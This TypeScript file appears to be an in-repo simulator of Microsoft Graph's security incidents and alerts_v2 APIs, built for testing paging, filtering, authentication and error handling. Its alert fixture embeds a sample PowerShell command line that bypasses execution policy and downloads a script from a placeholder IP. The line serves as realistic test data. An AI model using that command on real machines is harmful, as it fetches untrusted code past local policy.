/**
 * An in-repo Microsoft Graph double for /v1.0/security/incidents and /v1.0/security/alerts_v2, following
 * the documented behaviour including its awkward parts:
 * - `$filter` on lastUpdateDateTime (ge, gt, le, lt, eq; unquoted UTC literals, `and`), `$orderby`
 *   lastUpdateDateTime asc|desc, `$top` (> 50 on incidents and > 1000 on alerts_v2 is a 400 with Graph's
 *   error body), `$skip`, `$count`, `$expand=alerts` on incidents;
 * - `@odata.nextLink` with an opaque `$skiptoken` that is an offset into the LIVE result, as Graph's is:
 *   an object updated while a client pages moves to a later lastUpdateDateTime and shifts the offsets;
 * - bearer tokens per tenant (401 for unknown/revoked), 403 with Graph's "Missing application roles"
 *   body when the tenant's app lacks the permission, injected 429/503 with Retry-After and 500s, a
 *   persistent 500 for `$expand=alerts` on demand, and a request log.
 */
import { createHash } from 'node:crypto';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import zlib from 'node:zlib';

export type SimResource = 'incidents' | 'alerts_v2';
export type SimObject = { id: string; lastUpdateDateTime: string; [k: string]: unknown };

const PERMISSION: Record<SimResource, string> = { incidents: 'SecurityIncident.Read.All', alerts_v2: 'SecurityAlert.Read.All' };
const TOP_LIMIT: Record<SimResource, number> = { incidents: 50, alerts_v2: 1000 };

export interface SimRequest {
  method: string;
  path: string;
  /** Decoded query parameters. */
  query: Record<string, string>;
  url: string;
  status: number;
  tenantId?: string;
  resource?: SimResource;
  /** Number of objects in the answered page. */
  returned?: number;
}

export interface SimTenantOptions {
  /** Application permissions granted with admin consent. Default: both. */
  permissions?: string[];
}

interface Injected {
  status: number;
  retryAfterSeconds?: number;
  /** Only requests for this resource/tenant are affected when set. */
  resource?: SimResource;
  tenantId?: string;
}

interface TenantData {
  permissions: Set<string>;
  objects: Record<SimResource, Map<string, SimObject>>;
  sorted: Record<SimResource, SimObject[] | undefined>;
  keys: Record<SimResource, string[] | undefined>;
}

export interface GraphSimulatorOptions {
  /** Serve HTTPS with this key/cert (PEM) instead of HTTP. */
  tls?: { key: string; cert: string };
  /** gzip bodies when the client accepts it. Default true. */
  gzip?: boolean;
}

/** Sortable 7-digit canonical form of a UTC instant. */
export function simInstant(v: string): string {
  const m = /^(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2})(?:\.(\d{1,9}))?Z$/.exec(v);
  if (!m) throw new Error(`bad instant ${v}`);
  return `${m[1]}.${(m[2] ?? '').padEnd(7, '0').slice(0, 7)}Z`;
}

class ODataError extends Error {
  constructor(readonly status: number, readonly code: string, message: string) {
    super(message);
  }
}

function errorBody(code: string, message: string): string {
  return JSON.stringify({
    error: {
      code,
      message,
      innerError: { date: new Date().toISOString().slice(0, 19), 'request-id': '00000000-0000-0000-0000-000000000000', 'client-request-id': '00000000-0000-0000-0000-000000000000' },
    },
  });
}

type Clause = { op: 'ge' | 'gt' | 'le' | 'lt' | 'eq'; value: string };

function parseFilter(filter: string | undefined): Clause[] {
  if (filter === undefined) return [];
  const clauses: Clause[] = [];
  for (const part of filter.trim().split(/\s+and\s+/i)) {
    const m = /^lastUpdateDateTime\s+(ge|gt|le|lt|eq)\s+(\S+)$/i.exec(part.trim());
    if (!m) {
      throw new ODataError(400, 'BadRequest', `Invalid filter clause: '${part}'. Only lastUpdateDateTime comparisons are supported by this simulator.`);
    }
    const literal = m[2];
    if (/^'.*'$/.test(literal)) {
      // Graph wants unquoted DateTimeOffset literals; a quoted one is a string and cannot be compared.
      throw new ODataError(400, 'BadRequest', `A binary operator with incompatible types was detected. Found operand types 'Edm.DateTimeOffset' and 'Edm.String' for operator kind '${m[1]}'.`);
    }
    try {
      clauses.push({ op: m[1].toLowerCase() as Clause['op'], value: simInstant(literal) });
    } catch {
      throw new ODataError(400, 'BadRequest', `The DateTimeOffset text '${literal}' should be in format 'yyyy-mm-ddThh:mm:ss('.'s+)?(zzzzzz)?' and each field value is within valid range.`);
    }
  }
  return clauses;
}

function matches(t: string, clauses: Clause[]): boolean {
  for (const c of clauses) {
    if (c.op === 'ge' && !(t >= c.value)) return false;
    if (c.op === 'gt' && !(t > c.value)) return false;
    if (c.op === 'le' && !(t <= c.value)) return false;
    if (c.op === 'lt' && !(t < c.value)) return false;
    if (c.op === 'eq' && t !== c.value) return false;
  }
  return true;
}

export class GraphSimulator {
  readonly requests: SimRequest[] = [];
  /** Fails every `$expand=alerts` request with a 500, as large tenants do. */
  failExpand = false;
  /** Called before each collection page is computed: tests update objects "while paging" here. */
  beforePage?: (info: { tenantId: string; resource: SimResource; query: Record<string, string>; pageNumber: number }) => void;
  private readonly tenants = new Map<string, TenantData>();
  private readonly tokens = new Map<string, string>();
  private readonly injected: Injected[] = [];
  private pageNumber = 0;
  private tokenCounter = 0;

  private constructor(private readonly server: http.Server, readonly baseUrl: string, private readonly gzip: boolean) {}

  static async start(options: GraphSimulatorOptions = {}): Promise<GraphSimulator> {
    let sim: GraphSimulator | undefined;
    const handler = (req: http.IncomingMessage, res: http.ServerResponse) => sim!.handle(req, res);
    const server = options.tls ? https.createServer({ key: options.tls.key, cert: options.tls.cert }, handler) : http.createServer(handler);
    server.keepAliveTimeout = 2000;
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject);
      server.listen(0, '127.0.0.1', () => resolve());
    });
    const port = (server.address() as AddressInfo).port;
    sim = new GraphSimulator(server, `${options.tls ? 'https' : 'http'}://127.0.0.1:${port}`, options.gzip ?? true);
    return sim;
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections?.();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }

  addTenant(tenantId: string, options: SimTenantOptions = {}): void {
    this.tenants.set(tenantId, {
      permissions: new Set(options.permissions ?? Object.values(PERMISSION)),
      objects: { incidents: new Map(), alerts_v2: new Map() },
      sorted: { incidents: undefined, alerts_v2: undefined },
      keys: { incidents: undefined, alerts_v2: undefined },
    });
  }

  /** A new access token accepted for the tenant. */
  issueToken(tenantId: string): string {
    this.tenant(tenantId);
    const token = `sim-token-${tenantId.slice(0, 8)}-${++this.tokenCounter}`;
    this.tokens.set(token, tenantId);
    return token;
  }

  /** From now on the token gets 401 (expired). */
  revokeToken(token: string): void {
    this.tokens.delete(token);
  }

  /** Inserts or replaces objects (by id). */
  put(tenantId: string, resource: SimResource, objects: readonly SimObject[]): void {
    const t = this.tenant(tenantId);
    for (const o of objects) t.objects[resource].set(o.id, o);
    t.sorted[resource] = undefined;
  }

  /** A new version of an object: later lastUpdateDateTime (and optional changed fields). */
  update(tenantId: string, resource: SimResource, id: string, lastUpdateDateTime: string, patch: Record<string, unknown> = {}): SimObject {
    const t = this.tenant(tenantId);
    const current = t.objects[resource].get(id);
    if (!current) throw new Error(`no ${resource} ${id}`);
    const next: SimObject = { ...current, ...patch, lastUpdateDateTime };
    t.objects[resource].set(id, next);
    t.sorted[resource] = undefined;
    return next;
  }

  get(tenantId: string, resource: SimResource, id: string): SimObject | undefined {
    return this.tenant(tenantId).objects[resource].get(id);
  }

  all(tenantId: string, resource: SimResource): SimObject[] {
    return [...this.sortedObjects(this.tenant(tenantId), resource)];
  }

  /** The next `count` matching requests are answered with `status` (429/503 carry Retry-After). */
  inject(count: number, status: number, options: { retryAfterSeconds?: number; resource?: SimResource; tenantId?: string } = {}): void {
    for (let i = 0; i < count; i++) this.injected.push({ status, ...options });
  }

  /** Drops injected answers not used yet. */
  clearInjected(): void {
    this.injected.length = 0;
  }

  /** Collection requests only (not counting answered errors unless asked). */
  collectionRequests(filter: { tenantId?: string; resource?: SimResource; status?: number } = {}): SimRequest[] {
    return this.requests.filter((r) => r.resource !== undefined
      && (filter.tenantId === undefined || r.tenantId === filter.tenantId)
      && (filter.resource === undefined || r.resource === filter.resource)
      && (filter.status === undefined || r.status === filter.status));
  }

  private tenant(tenantId: string): TenantData {
    const t = this.tenants.get(tenantId);
    if (!t) throw new Error(`simulator has no tenant ${tenantId}`);
    return t;
  }

  private sortedObjects(t: TenantData, resource: SimResource): SimObject[] {
    let s = t.sorted[resource];
    if (!s) {
      const keyed = [...t.objects[resource].values()].map((o) => ({ o, k: simInstant(o.lastUpdateDateTime) }));
      keyed.sort((a, b) => (a.k < b.k ? -1 : a.k > b.k ? 1 : a.o.id < b.o.id ? -1 : a.o.id > b.o.id ? 1 : 0));
      s = keyed.map((x) => x.o);
      t.sorted[resource] = s;
      t.keys[resource] = keyed.map((x) => x.k);
    }
    return s;
  }

  /** Objects matching the filter, in ascending order; lower bounds by binary search (bench-sized data). */
  private matching(t: TenantData, resource: SimResource, clauses: Clause[]): SimObject[] {
    const sorted = this.sortedObjects(t, resource);
    const keys = t.keys[resource]!;
    let lo = 0;
    for (const c of clauses) {
      if (c.op !== 'ge' && c.op !== 'gt' && c.op !== 'eq') continue;
      let a = 0;
      let b = keys.length;
      while (a < b) {
        const mid = (a + b) >> 1;
        if (c.op === 'gt' ? keys[mid] <= c.value : keys[mid] < c.value) a = mid + 1;
        else b = mid;
      }
      lo = Math.max(lo, a);
    }
    const out: SimObject[] = [];
    for (let i = lo; i < sorted.length; i++) if (matches(keys[i], clauses)) out.push(sorted[i]);
    return out;
  }

  private handle(req: http.IncomingMessage, res: http.ServerResponse): void {
    const url = new URL(req.url ?? '/', this.baseUrl);
    const query: Record<string, string> = {};
    for (const [k, v] of url.searchParams) query[k] = v;
    const entry: SimRequest = { method: req.method ?? 'GET', path: url.pathname, query, url: url.toString(), status: 0 };
    this.requests.push(entry);
    const send = (status: number, body: string, headers: Record<string, string> = {}) => {
      entry.status = status;
      const accept = String(req.headers['accept-encoding'] ?? '');
      const all: Record<string, string> = { 'Content-Type': 'application/json; odata.metadata=minimal; odata.streaming=true; IEEE754Compatible=false; charset=utf-8', ...headers };
      let payload: Buffer = Buffer.from(body, 'utf8');
      if (this.gzip && /\bgzip\b/.test(accept) && payload.length > 1024) {
        payload = zlib.gzipSync(payload, { level: 1 });
        all['Content-Encoding'] = 'gzip';
      }
      res.writeHead(status, { ...all, 'Content-Length': String(payload.length) });
      res.end(payload);
    };
    req.resume();
    try {
      const m = /^\/v1\.0\/security\/(incidents|alerts_v2)$/.exec(url.pathname);
      if (!m) throw new ODataError(404, 'UnknownError', `Resource not found for the segment '${url.pathname.split('/').pop()}'.`);
      if (req.method !== 'GET') throw new ODataError(405, 'BadRequest', 'Method not allowed.');
      const resource = m[1] as SimResource;
      entry.resource = resource;
      const auth = req.headers.authorization;
      if (!auth || !/^Bearer .+/.test(auth)) throw new ODataError(401, 'InvalidAuthenticationToken', 'Access token is empty.');
      const tenantId = this.tokens.get(auth.slice('Bearer '.length));
      if (!tenantId) throw new ODataError(401, 'InvalidAuthenticationToken', 'Access token has expired or is not yet valid.');
      entry.tenantId = tenantId;
      const tenant = this.tenant(tenantId);
      if (!tenant.permissions.has(PERMISSION[resource])) {
        const granted = [...tenant.permissions].join(', ');
        const perm = PERMISSION[resource];
        throw new ODataError(403, 'Forbidden', `Missing application roles. API required roles: ${perm}, ${perm.replace('.Read.', '.ReadWrite.')}. Application roles: ${granted}.`);
      }
      const injectedIndex = this.injected.findIndex((i) => (i.resource === undefined || i.resource === resource) && (i.tenantId === undefined || i.tenantId === tenantId));
      if (injectedIndex >= 0) {
        const inj = this.injected.splice(injectedIndex, 1)[0];
        const headers: Record<string, string> = inj.retryAfterSeconds !== undefined ? { 'Retry-After': String(inj.retryAfterSeconds) } : {};
        const code = inj.status === 429 ? 'TooManyRequests' : inj.status === 503 ? 'ServiceUnavailable' : 'InternalServerError';
        const msg = inj.status === 429 ? 'Too many requests, retry after some time.' : inj.status === 503 ? 'The service is temporarily unavailable.' : 'An internal server error occurred.';
        send(inj.status, errorBody(code, msg), headers);
        return;
      }
      this.page(tenantId, tenant, resource, url, query, entry, send);
    } catch (e) {
      if (e instanceof ODataError) send(e.status, errorBody(e.code, e.message));
      else send(500, errorBody('InternalServerError', (e as Error).message));
    }
  }

  private page(
    tenantId: string, tenant: TenantData, resource: SimResource, url: URL, query: Record<string, string>, entry: SimRequest,
    send: (status: number, body: string, headers?: Record<string, string>) => void,
  ): void {
    const limit = TOP_LIMIT[resource];
    let top = limit;
    if (query.$top !== undefined) {
      if (!/^\d+$/.test(query.$top)) throw new ODataError(400, 'BadRequest', `Invalid value '${query.$top}' for $top query option found.`);
      top = Number(query.$top);
      if (top > limit) {
        throw new ODataError(400, 'BadRequest', `The limit of '${limit}' for Top query has been exceeded. The value from the incoming request is '${top}'.`);
      }
    }
    const expand = query.$expand;
    if (expand !== undefined) {
      if (resource !== 'incidents' || expand !== 'alerts') throw new ODataError(400, 'BadRequest', `Could not find a property named '${expand}' on type 'microsoft.graph.security.${resource === 'incidents' ? 'incident' : 'alert'}'.`);
      if (this.failExpand) throw new ODataError(500, 'InternalServerError', 'An error has occurred.');
    }
    const clauses = parseFilter(query.$filter);
    const orderby = query.$orderby;
    if (orderby !== undefined && !/^lastUpdateDateTime(\s+(asc|desc))?$/i.test(orderby.trim())) {
      throw new ODataError(400, 'BadRequest', `Order by '${orderby}' is not supported.`);
    }
    let offset = 0;
    if (query.$skip !== undefined) {
      if (!/^\d+$/.test(query.$skip)) throw new ODataError(400, 'BadRequest', `Invalid value '${query.$skip}' for $skip query option found.`);
      offset = Number(query.$skip);
    }
    if (query.$skiptoken !== undefined) {
      try {
        const decoded = JSON.parse(Buffer.from(query.$skiptoken, 'base64url').toString('utf8')) as { o?: unknown };
        if (typeof decoded.o !== 'number') throw new Error('bad');
        offset = decoded.o;
      } catch {
        throw new ODataError(400, 'BadRequest', 'The skip token is not valid.');
      }
    }
    this.beforePage?.({ tenantId, resource, query, pageNumber: ++this.pageNumber });
    // Computed on every request: the result is live, as Graph's is.
    let matching = this.matching(tenant, resource, clauses);
    if (orderby && /desc$/i.test(orderby.trim())) matching = [...matching].reverse();
    const slice = matching.slice(offset, offset + top);
    const value = resource === 'incidents' && expand === 'alerts'
      ? slice.map((inc) => ({ ...inc, alerts: [...tenant.objects.alerts_v2.values()].filter((a) => a.incidentId === inc.id) }))
      : slice;
    entry.returned = slice.length;
    const body: Record<string, unknown> = { '@odata.context': `${this.baseUrl}/v1.0/$metadata#security/${resource}` };
    if (query.$count === 'true') body['@odata.count'] = matching.length;
    body.value = value;
    if (offset + slice.length < matching.length) {
      const params = new URLSearchParams();
      for (const [k, v] of Object.entries(query)) if (k !== '$skiptoken' && k !== '$skip') params.set(k, v);
      params.set('$skiptoken', Buffer.from(JSON.stringify({ o: offset + slice.length, n: createHash('sha1').update(url.search).digest('hex').slice(0, 8) })).toString('base64url'));
      body['@odata.nextLink'] = `${this.baseUrl}${url.pathname}?${params.toString().replace(/\+/g, '%20')}`;
    }
    send(200, JSON.stringify(body));
  }
}

/* ---------- realistic objects ---------- */

function uuidFrom(seed: string): string {
  const h = createHash('sha256').update(seed).digest('hex');
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20, 32)}`;
}

/** `2025-03-01T00:00:00.0000000Z` plus `seconds`, with a 7-digit fraction. */
export function instantAt(seconds: number, fraction7 = 0, base = Date.UTC(2025, 2, 1)): string {
  const s = new Date(base + Math.floor(seconds) * 1000).toISOString().slice(0, 19);
  return `${s}.${String(fraction7).padStart(7, '0')}Z`;
}

/** An alert id shaped like real ones (`da` + GUID + `_1`, 40 chars). */
export function alertId(n: number): string {
  return `da${uuidFrom(`alert-${n}`)}_1`;
}

export function makeIncident(n: number, lastUpdateDateTime: string, tenantId: string): SimObject {
  const id = String(100000 + n);
  return {
    '@odata.type': '#microsoft.graph.security.incident',
    id,
    tenantId,
    status: 'active',
    incidentWebUrl: `https://security.microsoft.com/incidents/${id}?tid=${tenantId}`,
    redirectIncidentId: null,
    displayName: `Multi-stage incident involving Execution on one endpoint #${n}`,
    createdDateTime: '2025-02-28T23:00:00.1433333Z',
    lastUpdateDateTime,
    assignedTo: null,
    classification: 'unknown',
    determination: 'unknown',
    severity: ['low', 'medium', 'high', 'informational'][n % 4],
    customTags: [],
    systemTags: [],
    description: null,
    comments: [],
  };
}

export function makeAlert(n: number, lastUpdateDateTime: string, tenantId: string, incidentId?: string): SimObject {
  const id = alertId(n);
  const device = `host${n % 97}.contoso.com`;
  return {
    '@odata.type': '#microsoft.graph.security.alert',
    id,
    providerAlertId: id.slice(2),
    incidentId: incidentId ?? String(100000 + Math.floor(n / 3)),
    status: 'new',
    severity: ['low', 'medium', 'high'][n % 3],
    classification: null,
    determination: null,
    serviceSource: 'microsoftDefenderForEndpoint',
    detectionSource: 'microsoftDefenderForEndpoint',
    productName: 'Microsoft Defender for Endpoint',
    detectorId: '7f1c3609-a3ff-40e2-995b-c01770161d68',
    tenantId,
    title: 'Suspicious PowerShell command line',
    description: 'A suspicious PowerShell activity was observed on the machine.',
    recommendedActions: '1. Examine the PowerShell command line to understand what commands were executed.',
    category: 'Execution',
    assignedTo: null,
    alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${tenantId}`,
    incidentWebUrl: `https://security.microsoft.com/incidents/${100000 + Math.floor(n / 3)}?tid=${tenantId}`,
    mitreTechniques: ['T1059.001'],
    createdDateTime: '2025-02-28T23:00:00.8839373Z',
    lastUpdateDateTime,
    firstActivityDateTime: '2025-02-28T22:59:39.5154802Z',
    lastActivityDateTime: '2025-02-28T22:59:41.9939003Z',
    comments: [],
    evidence: [
      {
        '@odata.type': '#microsoft.graph.security.deviceEvidence',
        createdDateTime: '2025-02-28T23:00:01.1933333Z',
        verdict: 'unknown',
        remediationStatus: 'none',
        roles: [],
        detailedRoles: ['PrimaryDevice'],
        tags: [],
        mdeDeviceId: createHash('sha1').update(device).digest('hex'),
        deviceDnsName: device,
        osPlatform: 'Windows11',
        osBuild: 22621,
        version: '22H2',
        ipInterfaces: [`10.0.${n % 250}.${(n * 7) % 250}`],
        loggedOnUsers: [{ accountName: `user${n % 50}`, domainName: 'CONTOSO' }],
      },
      {
        '@odata.type': '#microsoft.graph.security.processEvidence',
        createdDateTime: '2025-02-28T23:00:01.1933333Z',
        verdict: 'unknown',
        remediationStatus: 'none',
        roles: [],
        detailedRoles: [],
        tags: [],
        processId: 8000 + (n % 1000),
        parentProcessId: 5772,
        processCommandLine: `powershell.exe -NoExit -ExecutionPolicy Bypass -Command "Invoke-WebRequest http://198.51.100.${n % 250}/p${n}.ps1"`,
        processCreationDateTime: '2025-02-28T22:59:39.4997961Z',
        imageFile: { sha1: 'a72c41316307889e43fe8605a0dca4a72e72a011', sha256: 'd783ba6567faf10fdff2d0ea3864f6756862d6c733c7f4467283da81aedc3a80', fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', fileSize: 491520 },
        userAccount: { accountName: `user${n % 50}`, domainName: 'CONTOSO', userSid: `S-1-5-21-1004336348-1177238915-682003330-${1000 + (n % 50)}` },
      },
    ],
  };
}
